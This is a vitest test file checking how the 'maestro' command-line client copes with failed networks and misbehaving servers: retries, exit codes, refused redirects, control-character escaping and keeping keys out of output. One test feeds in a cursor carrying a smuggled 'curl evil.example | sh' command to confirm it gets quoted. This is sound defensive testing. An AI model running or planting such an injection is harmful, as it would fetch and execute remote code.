// The client's behaviour on a bad network and before bad servers, against a real HTTP server.

import { describe, expect, test } from "vitest";
import { maestro, testHost, type TestHost } from "./testing/host.ts";
import { apiKey } from "./testing/market.ts";
import { json, problem, testServer, type TestServer } from "./testing/server.ts";

const hostOf = (server: Pick<TestServer, "url">): TestHost =>
  testHost({ env: { MAESTRO_API_URL: server.url, MAESTRO_API_KEY: apiKey } });
const budget = { limit_units: 10, leak_units_per_hour: 1, spent_units: 0, held_units: 0, remaining_units: 10 };
const setBudget = ["budget", "set", "--limit", "10", "--leak-per-hour", "1", "--json"] as const;

test("a cursor that the API makes up is quoted where a command with it is shown", async () => {
  const server = await testServer();
  server.on("GET /api/executions", json({ executions: [], next_cursor: "x; curl evil.example | sh" }));
  const { err } = await maestro(hostOf(server), "executions", "list");
  expect(err).toContain("--cursor 'x; curl evil.example | sh'");
});

describe("a mutating request", () => {
  test("is sent again after 503 and after a cut connection, under the same Idempotency-Key", async () => {
    const server = await testServer();
    let asked = 0;
    server.on("PUT /api/privacy/budget", (request, response) => {
      asked += 1;
      if (asked === 1) return problem(503, { code: "database_unavailable" }, { "retry-after": "2" })(request, response);
      if (asked === 2) return response.destroy();
      return json(budget)(request, response);
    });
    const host = hostOf(server);
    expect((await maestro(host, ...setBudget)).code).toBe(0);
    const keys = server.seen.map(({ headers }) => headers["idempotency-key"]);
    expect(keys.length).toBe(3);
    expect(new Set(keys).size).toBe(1);
    expect(host.slept[0]).toBeGreaterThanOrEqual(2_000);
  });

  test("is not sent for ever: five times, then exit code 6", async () => {
    const server = await testServer();
    server.on(
      "PUT /api/privacy/budget",
      problem(503, { code: "database_unavailable", title: "The database cannot be reached" }),
    );
    const { code, err } = await maestro(hostOf(server), ...setBudget);
    expect(code).toBe(6);
    expect(err).toContain("The database cannot be reached");
    expect(server.seen.length).toBe(5);
  });

  test.each([
    [400, 2],
    [401, 3],
    [403, 3],
    [404, 4],
    [409, 5],
    [410, 4],
    [412, 5],
    [413, 2],
    [422, 2],
    [429, 6],
    [500, 1],
  ])("answered with %i is asked once, and is exit code %i", async (status, code) => {
    const server = await testServer();
    server.on("PUT /api/privacy/budget", problem(status, { code: "some_code" }));
    expect((await maestro(hostOf(server), ...setBudget)).code).toBe(code);
    expect(server.seen.length).toBe(1);
  });

  test("two of them have two keys", async () => {
    const server = await testServer();
    server.on("PUT /api/privacy/budget", json(budget));
    const host = hostOf(server);
    await maestro(host, ...setBudget);
    await maestro(host, ...setBudget);
    expect(new Set(server.seen.map(({ headers }) => headers["idempotency-key"])).size).toBe(2);
  });
});

describe("what a server may answer", () => {
  test("a closed port is one clear sentence and exit code 6", async () => {
    const server = await testServer();
    await server.stop();
    const { code, err, out } = await maestro(hostOf(server), "whoami");
    expect(code).toBe(6);
    expect(err.split("\n")[0]).toBe(`error: The API at ${server.url} cannot be reached: nothing listens there`);
    expect(out).toBe("");
  });

  test("a redirect is not followed: the credential goes nowhere else", async () => {
    const [server, elsewhere] = [await testServer(), await testServer()];
    server.on("GET /api/whoami", (_request, response) => {
      response.writeHead(307, { location: `${elsewhere.url}/api/whoami` });
      response.end();
    });
    const { code, err } = await maestro(hostOf(server), "whoami");
    expect(code).toBe(6);
    expect(err).toContain("redirects");
    expect(elsewhere.seen).toEqual([]);
  });

  test("HTML, wrong JSON and a strange shape are each one sentence, with nothing of the answer in it", async () => {
    const server = await testServer();
    const host = hostOf(server);
    server.on("GET /api/whoami", (_request, response) => response.end("<html>hello</html>"));
    expect((await maestro(host, "whoami")).err).toContain("not with JSON");
    server.on("GET /api/whoami", json({ tenant_id: "sensitive", extra: 1 }));
    const strange = await maestro(host, "whoami");
    expect(strange.code).toBe(1);
    expect(strange.err).toContain("does not fit the contract");
    expect(strange.err).not.toContain("sensitive");
    server.on("GET /api/whoami", (_request, response) => {
      response.writeHead(502);
      response.end("<html>bad gateway</html>");
    });
    expect((await maestro(host, "whoami")).code).toBe(6);
  });

  test("control characters in a problem do not reach the terminal", async () => {
    const server = await testServer();
    server.on("GET /api/whoami", problem(403, { code: "denied", title: "no\u001b[2J", detail: "line\nbreak\u202e" }));
    const { err } = await maestro(hostOf(server), "whoami");
    expect(err).toContain("no\\u{1b}[2J");
    expect(err).toContain("line\\u{a}break\\u{202e}");
    expect(err).not.toContain("\u001B");
  });

  test("no key is ever in what is printed, whatever fails", async () => {
    const server = await testServer();
    server.on("GET /api/keys", problem(500, { code: "internal" }));
    const host = hostOf(server);
    const said = [
      await maestro(host, "keys", "list"),
      await maestro(host, "keys", "list", "--json"),
      await maestro(host, "whoami"),
    ];
    for (const { out, err } of said) expect(out + err).not.toContain(apiKey);
    expect(server.seen[0]!.headers.authorization).toBe(`Bearer ${apiKey}`);
  });
});

test("Ctrl-C while waiting for the API ends with exit code 130", async () => {
  const server = await testServer();
  const host = hostOf(server);
  server.on("GET /api/whoami", () => host.interrupt());
  expect((await maestro(host, "whoami")).code).toBe(130);
});
